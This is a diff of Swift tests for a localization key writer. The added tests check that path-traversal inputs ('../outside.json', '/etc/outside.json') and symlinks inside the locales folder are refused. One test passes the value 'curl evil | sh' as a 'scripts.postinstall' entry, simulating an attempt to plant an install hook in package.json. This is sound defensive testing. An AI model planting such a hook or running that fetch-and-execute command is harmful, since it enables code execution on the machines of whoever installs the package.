@@ -37,7 +37,7 @@ struct KeyWriterTests {
             Self.missing("zz.plain", form: "Text"),
             Self.missing("envtool.key", form: "localizedString"),
             Self.missing("files_count"),
-        ], to: path, sourceLanguage: "fr")
+        ], to: "Localizable.xcstrings", under: resources, sourceLanguage: "fr")
         #expect(added == ["b.with.value", "zz.plain", "envtool.key"])
         let after = try String(contentsOfFile: path, encoding: .utf8)
         #expect(Self.onlyInserted(before, after))
@@ -62,7 +62,7 @@ struct KeyWriterTests {
     func newCatalog() throws {
         let directory = TemporaryDirectory()
         let path = directory.path + "/sub/Other.xcstrings"
-        #expect(try CatalogKeyWriter.add([Self.missing("k", value: "V")], to: path, sourceLanguage: "de") == ["k"])
+        #expect(try CatalogKeyWriter.add([Self.missing("k", value: "V")], to: "sub/Other.xcstrings", under: directory.path, sourceLanguage: "de") == ["k"])
         let catalog = try StringCatalog(contentsOf: path)
         #expect(catalog.sourceLanguage == "de")
         #expect(catalog["k"]?.localization(for: "de")?.value == .unit(CatalogStringUnit(state: .new, value: "V")))
@@ -71,8 +71,8 @@ struct KeyWriterTests {
     @Test("a catalog that does not parse is not touched")
     func malformedCatalog() {
         let directory = TemporaryDirectory()
-        let path = directory.write("Localizable.xcstrings", "{\"sourceLanguage\": \"en\", \"strings\": {")
-        #expect(throws: CatalogKeyWriter.Failure.self) { try CatalogKeyWriter.add([Self.missing("k")], to: path, sourceLanguage: "en") }
+        _ = directory.write("Localizable.xcstrings", "{\"sourceLanguage\": \"en\", \"strings\": {")
+        #expect(throws: CatalogKeyWriter.Failure.self) { try CatalogKeyWriter.add([Self.missing("k")], to: "Localizable.xcstrings", under: directory.path, sourceLanguage: "en") }
         #expect(directory.read("Localizable.xcstrings") == "{\"sourceLanguage\": \"en\", \"strings\": {")
     }
 
@@ -86,7 +86,7 @@ struct KeyWriterTests {
             Self.missing("brand.new.key", .i18next),
             Self.missing("orphan.child", .i18next),
             Self.missing("app.title", .i18next),
-        ], to: path)
+        ], to: "en/translation.json", under: resources + "/locales")
         #expect(result.added == ["app.subtitle", "brand.new.key"])
         #expect(result.skipped.count == 1)
         #expect(result.skipped.first?.message == "\"orphan.child\" was not added: \"orphan\" is already a value, not an object; rename the key or move the value")
@@ -104,8 +104,49 @@ struct KeyWriterTests {
     @Test("a namespace without a file gets one, in a language folder created for it")
     func newResource() throws {
         let directory = TemporaryDirectory()
-        let path = directory.path + "/locales/fr/common.json"
-        #expect(try ResourceKeyWriter.add([Self.missing("hi", .i18next, value: "Salut")], to: path).added == ["hi"])
+        #expect(try ResourceKeyWriter.add([Self.missing("hi", .i18next, value: "Salut")], to: "fr/common.json", under: directory.path + "/locales").added == ["hi"])
         #expect(directory.read("locales/fr/common.json") == "{\n  \"hi\": \"Salut\"\n}\n")
+    }
+
+    @Test("a path that leaves the folder, or passes a link inside it, is a write failure and nothing is written or read through it",
+          arguments: ["../outside.json", "en/../../outside.json", "/etc/outside.json", "en//x.json", "./x.json"])
+    func confinedPaths(_ relativePath: String) throws {
+        let directory = TemporaryDirectory()
+        let locales = directory.path + "/project/locales"
+        try FileManager.default.createDirectory(atPath: locales, withIntermediateDirectories: true)
+        do throws(ResourceKeyWriter.Failure) {
+            _ = try ResourceKeyWriter.add([Self.missing("k", .i18next)], to: relativePath, under: locales)
+            Issue.record("\(relativePath) was written")
+        } catch {
+            #expect(error.isWriteFailure)
+            #expect(error.diagnostic.message.contains("would leave the output folder"))
+        }
+        do throws(CatalogKeyWriter.Failure) {
+            _ = try CatalogKeyWriter.add([Self.missing("k")], to: relativePath, under: locales, sourceLanguage: "en")
+            Issue.record("\(relativePath) was written")
+        } catch {
+            #expect(error.isWriteFailure)
+        }
+        #expect(!FileManager.default.fileExists(atPath: directory.path + "/project/outside.json"))
+        #expect(!FileManager.default.fileExists(atPath: directory.path + "/outside.json"))
+    }
+
+    @Test("a link inside the locales (a language folder or the file) is refused, and its target is left as it was")
+    func linksInsideTheFolder() throws {
+        let directory = TemporaryDirectory()
+        _ = directory.write("outside/package.json", "{\"name\": \"app\"}\n")
+        try FileManager.default.createDirectory(atPath: directory.path + "/locales/fr", withIntermediateDirectories: true)
+        try FileManager.default.createSymbolicLink(atPath: directory.path + "/locales/en", withDestinationPath: directory.path + "/outside")
+        try FileManager.default.createSymbolicLink(atPath: directory.path + "/locales/fr/translation.json", withDestinationPath: directory.path + "/outside/package.json")
+        for relativePath in ["en/package.json", "fr/translation.json"] {
+            #expect(throws: ResourceKeyWriter.Failure.self) {
+                try ResourceKeyWriter.add([Self.missing("scripts.postinstall", .i18next, value: "curl evil | sh")], to: relativePath, under: directory.path + "/locales")
+            }
+        }
+        #expect(directory.read("outside/package.json") == "{\"name\": \"app\"}\n")
+        #expect(throws: CatalogKeyWriter.Failure.self) {
+            try CatalogKeyWriter.add([Self.missing("k")], to: "en/Localizable.xcstrings", under: directory.path + "/locales", sourceLanguage: "en")
+        }
+        #expect(!FileManager.default.fileExists(atPath: directory.path + "/outside/Localizable.xcstrings"))
     }
 }
